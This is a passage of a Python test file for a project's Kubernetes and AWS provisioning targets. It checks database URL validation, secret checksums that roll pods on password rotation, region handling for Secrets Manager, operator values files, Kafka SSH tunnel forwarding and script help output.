    result = redeploy(sandbox, CA4_MONGO_URL=url)
    assert result.returncode != 0
    line = result.stderr.strip().splitlines()[0]
    assert line.startswith("ca4-deploy-app: CA4_MONGO_URL"), line
    assert reason in line
    assert "app-pw-never" not in result.stdout + result.stderr
    assert [c for c in changes(sandbox.calls()) if c[0] != "run"] == []


def test_prod_deploy_accepts_the_documented_database_url(sandbox: Sandbox) -> None:
    result = redeploy(sandbox)
    assert result.returncode == 0, result.stderr
    assert applied_app_secret(sandbox) == {
        "api-key-hashes": sandbox.env["CA4_API_KEY_HASHES"],
        "mongo-url": DOCDB_URL,
    }
    check = next(c["argv"] for c in sandbox.calls() if c["tool"] == "uv")
    assert check[:3] == [
        "run",
        "python",
        str(REPO / "tools/provision/scripts/check-app-secrets.py"),
    ]


def test_deploy_checks_the_ca_file_the_prod_chart_mounts(rendered: Rendered) -> None:
    """The tlsCAFile the target requires is the file the prod pods find the RDS bundle at."""
    text = (REPO / "mk" / "infra.mk").read_text()
    mount_dir = re.search(r"^CA4_DB_CA_MOUNT_DIR \?= (\S+)$", text, re.M)
    key = re.search(r"^CA4_DB_CA_KEY := (\S+)$", text, re.M)
    assert mount_dir
    assert key
    mounted = set()
    for workload in workloads(rendered[("ca4-app", "prod")]):
        spec = pod_spec(workload)
        ca_volumes = {v["name"] for v in spec.get("volumes", []) if "configMap" in v}
        for container in spec["containers"]:
            for mount in container.get("volumeMounts", []):
                if mount["name"] in ca_volumes:
                    mounted.add(f"{mount['mountPath']}/{key.group(1)}")
    assert mounted == {f"{mount_dir.group(1)}/{key.group(1)}"}


# -- ca4-deploy-app: a new database URL rolls the pods -------------------------------------------

ROTATED_DOCDB_URL = DOCDB_URL.replace("app-pw-never", "rotated-pw-never")


def app_secret_checksum(sandbox: Sandbox) -> str:
    """The secrets.existingSecretChecksum the app's helm upgrade passed."""
    argv = next(
        c["argv"]
        for c in sandbox.calls()
        if c["tool"] == "helm" and c["argv"][:3] == ["upgrade", "--install", "ca4-app"]
    )
    prefix = "secrets.existingSecretChecksum="
    (value,) = [a.removeprefix(prefix) for a in argv if a.startswith(prefix)]
    assert argv[argv.index(prefix + value) - 1] == "--set-string"
    return value


def env_keys_checksum(mongo_url: str) -> str:
    """What the target hashes: each key the pods read at start, as `key=value` lines."""
    return hashlib.sha256(f"mongo-url={mongo_url}\n".encode()).hexdigest()


def test_redeploy_with_a_new_database_url_rolls_the_pods(sandbox: Sandbox) -> None:
    """The pods read CA4_MONGO_URL (a secretKeyRef) at start only, and the chart has no checksum
    of a Secret it does not create: a rotated password reached the Secret but never the pods.
    The checksum of the live Secret's URL, passed to the chart, changes with it and only then."""
    first = redeploy(sandbox)
    assert first.returncode == 0, first.stderr
    checksum = app_secret_checksum(sandbox)
    assert checksum == env_keys_checksum(DOCDB_URL)
    # read from the Secret as applied, before the chart is installed
    calls = sandbox.calls()
    applied = kubectl_index(calls, "create", "secret", "ca4-app-secrets")
    read = max(
        i
        for i, c in enumerate(calls)
        if c["tool"] == "kubectl" and "get" in c["argv"] and 'index . "mongo-url"' in str(c)
    )
    install = next(i for i, c in enumerate(calls) if c["argv"][:2] == ["upgrade", "--install"])
    assert applied < read < install
    sandbox.reset()
    same = redeploy(sandbox, "CA4_MONGO_URL")  # a re-run keeps the live URL: nothing rolls
    assert same.returncode == 0, same.stderr
    assert app_secret_checksum(sandbox) == checksum
    sandbox.reset()
    rotated = redeploy(sandbox, CA4_MONGO_URL=ROTATED_DOCDB_URL)
    assert rotated.returncode == 0, rotated.stderr
    assert app_secret_checksum(sandbox) == env_keys_checksum(ROTATED_DOCDB_URL) != checksum
    # A key change alone rolls nothing: the pods reload the keys file live.
    sandbox.reset()
    keys = redeploy(sandbox, CA4_API_KEY_HASHES="ci:" + "b" * 64)
    assert keys.returncode == 0, keys.stderr
    assert app_secret_checksum(sandbox) == env_keys_checksum(ROTATED_DOCDB_URL)
    assert "rotated-pw-never" not in json.dumps([c["argv"] for c in sandbox.calls()])


def test_deploy_checksums_the_keys_the_pods_read_at_start(rendered: Rendered) -> None:
    """CA4_APP_SECRET_ENV_KEYS are the Secret's keys the pods take as environment variables
    (read at start); the keys file they mount is reloaded live and left out."""
    text = (REPO / "mk" / "infra.mk").read_text()
    listed = re.search(r"^CA4_APP_SECRET_ENV_KEYS := (.+)$", text, re.M)
    assert listed
    for value_set in ("dev", "prod"):
        env_keys = {
            e["valueFrom"]["secretKeyRef"]["key"]
            for w in workloads(rendered[("ca4-app", value_set)])
            if w["kind"] == "Deployment"
            for container in pod_spec(w)["containers"]
            for e in container.get("env", [])
            if "secretKeyRef" in e.get("valueFrom", {})
        }
        assert set(listed.group(1).split()) == env_keys, value_set


# -- ca4-db-user: Secrets Manager in the stack's region -----------------------------------------


def test_db_user_asks_secrets_manager_in_the_stacks_region(sandbox: Sandbox) -> None:
    """No AWS_DEFAULT_REGION, and a stack outside the default region: every aws call names the
    stack's region (aws would stop on "You must specify a region", or ask the profile's)."""
    outputs = {"CA4_FAKE_TF_OUTPUTS": json.dumps({"aws_region": "eu-central-1"})}
    result = sandbox.make("ca4-db-user", env=outputs)
    assert result.returncode == 0, result.stderr
    aws = [c for c in sandbox.calls() if c["tool"] == "aws"]
    assert [c["region"] for c in aws] == ["eu-central-1"] * 3  # master, app (missing), create
    assert "create-secret" in aws[-1]["argv"]


def test_db_user_creates_its_secret_only_when_it_does_not_exist(sandbox: Sandbox) -> None:
    """Access denied (or throttling, or a network error) is not "missing": nothing is created,
    and the error is named."""
    result = sandbox.make("ca4-db-user", env={"CA4_FAKE_AWS_ERROR": "AccessDeniedException"})
    assert result.returncode != 0
    assert (
        "db-user.sh: cannot read the secret ca4/dev/app-db-user in eu-west-1 (nothing created): "
        "An error occurred (AccessDeniedException)" in result.stderr
    )
    calls = sandbox.calls()
    assert not [c for c in calls if "create-secret" in c["argv"]]
    assert not [c for c in calls if c["tool"] == "uv"]


def test_stack_outputs_the_region_db_user_reads() -> None:
    outputs = (REPO / "infra" / "terraform" / "stacks" / "ca4" / "outputs.tf").read_text()
    assert re.search(r'^output "aws_region" \{\n.*\n  value += var\.aws_region$', outputs, re.M)


# -- the operator's own values files -------------------------------------------------------------


def test_operator_values_files_follow_the_shipped_ones(
    sandbox: Sandbox, tmp_path: Path, helm: str
) -> None:
    """Site settings (processor.extraEnv, labels) live in the operator's own untracked files,
    passed after values-<ENV>.yaml so they win; no tracked edit, so ca4-images still builds."""
    app_values = tmp_path / "app-values.yaml"
    app_values.write_text(
        "processor:\n  extraEnv:\n    - name: CA4_RATE_LIMIT_TENANT_KEYS\n      value: '4'\n"
    )
    platform_values = tmp_path / "platform-values.yaml"
    platform_values.write_text("commonLabels:\n  team: ca4-ops\n")
    ready_for(sandbox, "ca4-deploy-app")
    env = {"CA4_APP_VALUES": str(app_values), "CA4_PLATFORM_VALUES": str(platform_values)}
    result = sandbox.make("ca4-platform-setup", "ca4-deploy-app", env=env)
    assert result.returncode == 0, result.stderr
    helm_calls = [c["argv"] for c in sandbox.calls() if c["tool"] == "helm"]
    assert [a[0] for a in helm_calls] == ["template", "upgrade", "upgrade"]
    for argv, chart, extra in [
        (helm_calls[0], "ca4-platform", platform_values),
        (helm_calls[1], "ca4-platform", platform_values),
        (helm_calls[2], "ca4-app", app_values),
    ]:
        files = [argv[i + 1] for i, a in enumerate(argv) if a == "-f"]
        assert files == [str(REPO / "infra" / "helm" / chart / "values-dev.yaml"), str(extra)]
    args = [a for a in helm_calls[2][2:] if a != "--wait"]
    rendered_app = run([helm, "template", *args, "--kube-version", "1.33.5"])
    assert rendered_app.returncode == 0, rendered_app.stderr
    assert "name: CA4_RATE_LIMIT_TENANT_KEYS" in rendered_app.stdout
    args = [a for a in helm_calls[1][2:] if a != "--wait"]
    rendered_platform = run([helm, "template", *args, "--kube-version", "1.33.5"])
    assert rendered_platform.returncode == 0, rendered_platform.stderr
    assert "team: ca4-ops" in rendered_platform.stdout


def test_a_kafka_tunnel_on_another_port_is_the_port_the_brokers_advertise(
    sandbox: Sandbox, helm: str
) -> None:
    """A second ENV's Kafka tunnel on 9094: brokers advertising localhost:9092 would send its
    clients on to the first ENV's tunnel, so ca4-platform-setup gives the chart the same port."""
    ready_for(sandbox, "ca4-platform-setup")
    result = sandbox.make("ca4-platform-setup", env={"CA4_KAFKA_TUNNEL_PORT": "9094"})
    assert result.returncode == 0, result.stderr
    upgrade = next(c["argv"] for c in sandbox.calls() if c["argv"][:1] == ["upgrade"])
    args = [a for a in upgrade[2:] if a != "--wait"]
    rendered_platform = run([helm, "template", *args, "--kube-version", "1.33.5"])
    assert rendered_platform.returncode == 0, rendered_platform.stderr
    kafka = next(
        d
        for d in yaml.safe_load_all(rendered_platform.stdout)
        if d and d["kind"] == "StatefulSet" and d["metadata"]["name"] == "kafka"
    )
    env = {e["name"]: e.get("value") for e in pod_spec(kafka)["containers"][0]["env"]}
    assert env["TUNNEL_BASE_PORT"] == "9094"  # start.sh advertises TUNNEL://localhost:<it + N>


@pytest.mark.parametrize(
    ("target", "variable"),
    [
        ("ca4-deploy-app", "CA4_APP_VALUES"),
        ("ca4-platform-setup", "CA4_PLATFORM_VALUES"),
        ("ca4-apply", "CA4_TF_VAR_FILES"),
    ],
)
def test_a_missing_values_file_stops_the_target(
    sandbox: Sandbox, tmp_path: Path, target: str, variable: str
) -> None:
    present = tmp_path / "present.yaml"
    present.write_text("{}\n")
    missing = tmp_path / "typo.yaml"
    ready_for(sandbox, target)
    result = sandbox.make(target, env={variable: f"{present} {missing}"})
    assert result.returncode != 0
    assert (
        f"{target}: missing file: {variable} names {missing}, which does not exist or is "
        "unreadable" in result.stderr
    )
    assert changes(sandbox.calls()) == []


# -- --help --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "script",
    sorted(
        p.name
        for p in (REPO / "tools" / "provision" / "scripts").glob("*.sh")
        if p.name != "lib.sh"
    ),
)
def test_scripts_answer_help_without_starting_work(sandbox: Sandbox, script: str) -> None:
    path = REPO / "tools" / "provision" / "scripts" / script
    result = run([str(path), "--help"], cwd=REPO, env=sandbox.env, timeout=30)
    assert result.returncode == 0, result.stderr
    header = path.read_text().splitlines()[1].removeprefix("# ")
    assert result.stdout.splitlines()[0] == header
    assert "set -euo pipefail" not in result.stdout
    assert sandbox.calls() == []


def test_kafka_tunnel_forwards_every_broker_the_statefulset_runs(sandbox: Sandbox) -> None:
    """Prod runs three brokers: with one forward, a client sent on to broker 1 or 2 (the group
    coordinator, a partition's leader) found nothing on their advertised ports and
    `ca4 rewind` through the tunnel failed."""
    result = sandbox.make("dev-kafka-tunnel", env={"FAKE_KAFKA_BROKERS": "3"})
    assert result.returncode == 0, result.stderr
    tunnel = next(c["argv"] for c in sandbox.calls() if c["tool"] == "ssh")
    forwards = [tunnel[i + 1] for i, arg in enumerate(tunnel) if arg == "-L"]
    first = int(forwards[0].split(":")[1])  # the sandbox's CA4_KAFKA_TUNNEL_PORT
    assert forwards == [f"127.0.0.1:{first + n}:10.40.11.21:{30094 + n}" for n in range(3)]


def test_kafka_tunnel_says_when_it_cannot_count_the_brokers(sandbox: Sandbox) -> None:
    result = sandbox.make("dev-kafka-tunnel", env={"FAKE_KAFKA_BROKERS": ""})
    assert result.returncode != 0
    assert "cannot read how many Kafka brokers run (statefulset kafka)" in result.stderr
    assert not [c for c in sandbox.calls() if c["tool"] == "ssh"]


def test_deploy_takes_the_registry_the_images_were_built_for(sandbox: Sandbox) -> None:
    """`make ca4-images` honours CA4_IMAGE_REGISTRY: a deploy that ignored it asked the nodes for
    ghcr.io's images, which are not there (ErrImagePull)."""
    assert sandbox.make("ca4-bootstrap-k3s", "ca4-images").returncode == 0
    sandbox.reset()
    result = sandbox.make("ca4-deploy-app", env={"CA4_IMAGE_REGISTRY": "registry.example/ca4"})
    assert result.returncode == 0, result.stderr
    argv = next(
        c["argv"] for c in sandbox.calls() if c["tool"] == "helm" and "upgrade" in c["argv"]
    )
    assert argv[argv.index("image.registry=registry.example/ca4") - 1] == "--set-string"
